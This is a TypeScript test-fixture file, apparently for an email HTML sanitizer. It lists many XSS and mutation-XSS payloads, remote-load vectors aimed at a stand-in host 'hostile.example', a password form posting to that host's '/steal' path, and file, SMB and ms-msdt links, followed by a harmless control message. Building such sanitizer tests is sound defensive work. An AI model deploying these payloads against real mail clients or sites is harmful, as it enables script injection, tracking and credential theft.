/**
 * HTML that tries to run something, to fetch something, or to lead the desk away. `H` stands for a host nobody may be asked at;
 * whatever runs sets `top.hit`. Ideas from the published collections (OWASP, html5sec, DOMPurify's and Electron mail clients' issues);
 * the words are ours.
 */
const run = "try{top.hit=1}catch(e){};try{parent.postMessage('hit','*')}catch(e){};document.title='hit'"
const host = 'https://hostile.example'

export const hostileHtml: [what: string, html: string][] = [
  ['a script', `<script>${run}</script>`],
  ['a script from elsewhere', `<script src="${host}/x.js"></script>`],
  ['a picture that fails', `<img src=x onerror="${run}">`],
  ['a picture that loads', `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${run}">`],
  ['an svg that loads', `<svg onload="${run}"></svg>`],
  ['a script inside an svg', `<svg><script>${run}</script></svg>`],
  [
    'an svg animation of an address',
    `<svg><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a></svg>`,
  ],
  [
    'an svg use',
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"></use></svg>`,
  ],
  [
    'a foreign object',
    `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  ],
  [
    'mathml that hides a style',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  ],
  ['mutation by noscript', `<noscript><p title="</noscript><img src=x onerror=${run}>">`],
  [
    'mutation by a form in mathml',
    `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  ],
  [
    'mutation by a template',
    `<template><s><template><s><img src=x onerror=${run}>@shadow</s></template></s></template>`,
  ],
  [
    'mutation by a select',
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${run}>">`,
  ],
  ['mutation by a comment', `<!--><img src=x onerror=${run}>-->`],
  [
    'a comment that is none',
    `<!--[if IE]><script>${run}</script><![endif]--><?xml-stylesheet href="javascript:${run}"?>`,
  ],
  ['an iframe', `<iframe src="javascript:${run}"></iframe>`],
  ['an iframe with a document', `<iframe srcdoc="<img src=x onerror=${run}>"></iframe>`],
  ['an iframe from elsewhere', `<iframe src="${host}/frame"></iframe>`],
  ['an object', `<object data="${host}/o.swf"></object><object data="javascript:${run}"></object>`],
  ['an embed', `<embed src="${host}/e.svg">`],
  ['an applet', `<applet code="x" archive="${host}/a.jar"></applet>`],
  ['a frameset', `<frameset onload="${run}"><frame src="${host}"></frameset>`],
  ['a body that loads', `<body onload="${run}" onpageshow="${run}" background="${host}/bg.png">x</body>`],
  [
    'a body with an id of the window’s',
    `<body id=top name=parent><img name=getElementById><form id=documentElement></form></body>`,
  ],
  ['details that open', `<details open ontoggle="${run}">x</details>`],
  [
    'an element with the focus',
    `<input autofocus onfocus="${run}"><a autofocus tabindex=1 onfocus="${run}" href=#>x</a>`,
  ],
  ['a marquee', `<marquee onstart="${run}">x</marquee>`],
  [
    'a video',
    `<video src="${host}/v.mp4" autoplay onerror="${run}" poster="${host}/p.png"><source onerror="${run}" src=x></video>`,
  ],
  ['an audio', `<audio src="${host}/a.mp3" autoplay onerror="${run}"></audio>`],
  ['an animation', `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${run}">x</p>`],
  ['a transition', `<p style="transition:color 1s" ontransitionend="${run}">x</p>`],
  ['a pointer', `<p onpointerover="${run}" onclick="${run}" onmouseenter="${run}">x</p>`],
  ['a link to a script', `<a href="javascript:${run}">x</a>`],
  [
    'a link to a script in disguise',
    `<a href="java\tscript:${run}">x</a><a href=" &#14; javascript:${run}">x</a><a href="JaVaScRiPt&colon;${run}">x</a>`,
  ],
  ['a link to data', `<a href="data:text/html,<script>${run}</script>">x</a>`],
  ['a link to a file', `<a href="file:///etc/passwd">x</a><a href="smb://hostile.example/share">x</a>`],
  [
    'a link to another program',
    `<a href="ms-msdt:/id">x</a><a href="skein://open/x">x</a><a href="vbscript:msgbox(1)">x</a>`,
  ],
  ['a link without protection', `<a href="http://hostile.example/plain" target="_top">x</a>`],
  [
    'a link that leaves the frame',
    `<a href="${host}/away" target="_top">x</a><a href="${host}/away" target="_parent" ping="${host}/ping">x</a>`,
  ],
  ['a map of links', `<img usemap=#m src=x><map name=m><area href="javascript:${run}" shape=default></map>`],
  [
    'a form',
    `<form action="${host}/steal"><input name=password type=password><button>Sign in</button></form>`,
  ],
  [
    'a form by its button',
    `<form id=f></form><button form=f formaction="javascript:${run}">x</button><input type=image src="${host}/i.png">`,
  ],
  ['an is-index', `<isindex action="javascript:${run}" type=image>`],
  [
    'a refresh',
    `<meta http-equiv="refresh" content="0;url=${host}/away"><meta http-equiv="refresh" content="0;url=javascript:${run}">`,
  ],
  [
    'a policy of its own',
    `<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline' *"><script>${run}</script>`,
  ],
  ['a base', `<base href="${host}/"><img src="relative.png"><a href="relative">x</a>`],
  [
    'a stylesheet',
    `<link rel=stylesheet href="${host}/s.css"><link rel=prefetch href="${host}/p"><link rel="dns-prefetch" href="${host}">`,
  ],
  ['an import in a style', `<style>@import url("${host}/s.css"); @import "${host}/t.css";</style><p>x</p>`],
  ['a font', `<style>@font-face{font-family:x;src:url(${host}/f.woff)}p{font-family:x}</style><p>x</p>`],
  [
    'a picture in a style',
    `<p style="background:url(${host}/b.png);list-style:url('${host}/l.png');cursor:url(${host}/c.cur),auto">x</p>`,
  ],
  [
    'a picture set in a style',
    `<p style="background:image-set('${host}/b.png' 1x);border-image:-webkit-image-set(url(${host}/c.png) 1x)">x</p>`,
  ],
  [
    'an escaped address in a style',
    `<p style="background:\\75\\72\\6c(${host}/b.png)">x</p><style>p{background:u\\72l(${host}/c.png)}</style>`,
  ],
  [
    'an address in a variable of a style',
    `<style>:root{--x:url(${host}/v.png)}p{background:var(--x);mask:var(--x);filter:url(${host}/f.svg#x)}</style><p>x</p>`,
  ],
  [
    'an expression in a style',
    `<p style="width:expression(${run});behavior:url(${host}/b.htc);-moz-binding:url(${host}/m.xml#x)">x</p>`,
  ],
  ['a style that ends early', `<style></style/><img src=x onerror=${run}></style>`],
  [
    'a style over the whole desk',
    `<style>html,body{position:fixed;inset:0;z-index:99999;width:300vw;height:300vh}</style><p>x</p>`,
  ],
  ['a picture from elsewhere', `<img src="${host}/p.gif" srcset="${host}/q.gif 2x" width=1 height=1>`],
  [
    'a picture of another protocol',
    `<img src="//hostile.example/p.gif"><img src="/port"><img src="ftp://hostile.example/p.gif"><img lowsrc="${host}/low.png" dynsrc="${host}/d">`,
  ],
  [
    'a picture that is an svg',
    `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
  ],
  ['a picture chosen', `<picture><source srcset="${host}/p.webp"><img src="${host}/p.png"></picture>`],
  ['an input picture', `<input type="image" src="${host}/i.png" onerror="${run}">`],
  ['a table’s background', `<table background="${host}/t.png"><tr><td background="${host}/td.png">x</table>`],
  ['a quotation’s source', `<blockquote cite="javascript:${run}">x</blockquote><q cite="${host}/q">x</q>`],
  [
    'a shadow root',
    `<div><template shadowrootmode="open"><script>${run}</script><img src=x onerror=${run}></template></div>`,
  ],
  ['an element of its own', `<x-y onclick="${run}" is="x-z"><slot onslotchange="${run}"></slot></x-y>`],
  ['a popover', `<button popovertarget=p>x</button><div popover id=p onbeforetoggle="${run}">x</div>`],
  ['a dialog', `<dialog open oncancel="${run}"><form method=dialog><button>x</button></form></dialog>`],
  ['attributes without end', `<p ${'a="b" '.repeat(3000)}onclick="${run}">x</p>`],
  ['a tree a thousand deep', `${'<div>'.repeat(1200)}<img src=x onerror="${run}">${'</div>'.repeat(1200)}`],
  ['letters of nothing', `<im\u0000g src=x onerror=${run}><scr\u0000ipt>${run}</script>`],
  ['a tag that is not closed', `<img src=x onerror=${run} <p title="`],
  ['an attribute without quotes', `<p/onclick=${run}/title=x>x</p><img src=\`x\` onerror=\`${run}\`>`],
  [
    'text that looks escaped',
    `&lt;script&gt;${run}&lt;/script&gt;<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  ],
  [
    'xml in html',
    `<xml><i><b>&lt;img src=x onerror=${run}&gt;</b></i></xml><xss style="xss:expression(${run})">`,
  ],
  [
    'a cid that is an address',
    `<img src="cid:https://hostile.example/x"><img src="cid:&quot; onerror=&quot;${run}">`,
  ],
]

/** Of no use to anybody, but they must be shown as they are. */
export const harmlessHtml = `<html><head><style>.red{color:#c00}</style></head><body bgcolor="#ffffff">
<h2>Order <i>SO-20418</i></h2><table width="400" border="1" cellpadding="4"><tr><td class="red">3 packs</td><td align="right">€120</td></tr></table>
<p>See <a href="https://veloform.com/orders">your order</a>, <a href="mailto:support@veloform.com">write</a> or <a href="tel:+31207940128">call</a>.</p>
<ul><li>one<li>two</ul><blockquote>quoted</blockquote><img alt="logo" src="cid:logo@parcelo.eu"></body></html>`
